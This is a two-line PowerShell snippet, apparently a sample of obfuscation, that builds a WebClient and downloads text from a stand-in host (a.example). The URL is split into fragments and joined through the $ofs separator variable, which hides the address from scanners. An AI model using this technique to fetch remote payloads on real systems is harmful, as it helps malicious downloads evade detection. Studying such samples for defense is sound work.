$wc = New-Object System.Net.WebClient
$wc.DownloadString(("$(Set-Variable 'ofs' '')"+[string]('http:','//a.exa','mple/p/x.txt')+"$(sv 'ofs' ' ')"))
